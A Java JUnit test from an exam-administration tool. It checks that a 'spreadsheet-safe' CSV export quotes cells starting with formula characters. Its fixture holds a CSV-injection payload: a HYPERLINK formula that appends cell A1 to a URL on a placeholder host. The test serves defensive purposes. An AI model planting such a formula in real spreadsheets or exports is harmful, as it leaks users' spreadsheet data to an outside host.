package org.inkgate.admin.hostile;

import static org.junit.jupiter.api.Assertions.assertEquals;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.inkgate.admin.core.csv.Csv;
import org.inkgate.admin.testutil.ForgedPackages;
import org.inkgate.format.response.QuestionnaireAnswers;
import org.inkgate.format.response.ResponseDocument;
import org.inkgate.format.response.TaskResponse;
import org.inkgate.format.response.WordCount;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A candidate's text and free-text answer that start like spreadsheet formulas. The plain export keeps
 * them exactly (the data dictionary says so); {@code export --spreadsheet-safe} puts a single quote
 * in front of each cell starting with a character from OWASP's CSV Injection list ({@code = + - @},
 * tab, carriage return), so a spreadsheet shows it as text.
 */
class SpreadsheetSafeExportTest {

    private static final String TEXT = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\") is what I typed";
    private static final String ANSWER = "@SUM(1+1)";

    @TempDir
    Path dir;

    @Test
    void export_cellsStartingLikeFormulas_plainKeepsThemSpreadsheetSafeQuotesThem() throws Exception {
        ForgedPackages p = ForgedPackages.prepare(dir);
        ResponseDocument d = p.document("H1001", 1);
        List<TaskResponse> tasks = new ArrayList<>(d.tasks());
        TaskResponse t = tasks.get(0);
        tasks.set(0, new TaskResponse(t.taskId(), t.conditionId(), TEXT, WordCount.of(TEXT), t.startedAt(), t.endedAt(),
                t.extraTimeSeconds(), t.policy(), t.toolsOffered(), t.toolUse(), t.endReason()));
        p.write(new ResponseDocument(d.format(), d.schemaVersion(), d.packageId(), d.examId(), d.bundleManifestSha256(),
                d.candidateNumber(), d.seat(), d.formId(), d.clientVersion(), d.startedAt(), d.submittedAt(), tasks,
                List.of(new QuestionnaireAnswers("after-writing", Map.of("time-enough", "4", "tool-use", ANSWER)))),
                dir.resolve("packages/H1001.inkresp"));
        Path store = dir.resolve("results.db");
        p.collect(dir.resolve("packages"), store);

        Path plain = dir.resolve("plain");
        assertEquals(0, ForgedPackages.here("export", "--store", store.toString(), "--out", plain.toString()).code());
        Path safe = dir.resolve("safe");
        ForgedPackages.Run run = ForgedPackages.here("export", "--spreadsheet-safe", "--store", store.toString(), "--out",
                safe.toString());
        assertEquals(0, run.code(), run.out());

        String exam = p.manifest().examId();
        assertEquals(TEXT, cell(plain.resolve(exam + "/csv/responses.csv"), "text", t.taskId()));
        assertEquals("'" + TEXT, cell(safe.resolve(exam + "/csv/responses.csv"), "text", t.taskId()));
        assertEquals(ANSWER, cell(plain.resolve(exam + "/csv/questionnaire_answers.csv"), "answer", "tool-use"));
        assertEquals("'" + ANSWER, cell(safe.resolve(exam + "/csv/questionnaire_answers.csv"), "answer", "tool-use"));
        // a cell that starts with anything else is the same in both
        assertEquals(cell(plain.resolve(exam + "/csv/responses.csv"), "candidate_number", t.taskId()),
                cell(safe.resolve(exam + "/csv/responses.csv"), "candidate_number", t.taskId()));
    }

    /** The cell of {@code column} in the first row holding {@code key} in some cell. */
    private static String cell(Path csv, String column, String key) throws Exception {
        List<Csv.Row> rows = Csv.parse(Files.readString(csv));
        int c = rows.get(0).fields().indexOf(column);
        return rows.stream().skip(1).filter(r -> r.fields().contains(key)).findFirst().orElseThrow().fields().get(c);
    }
}
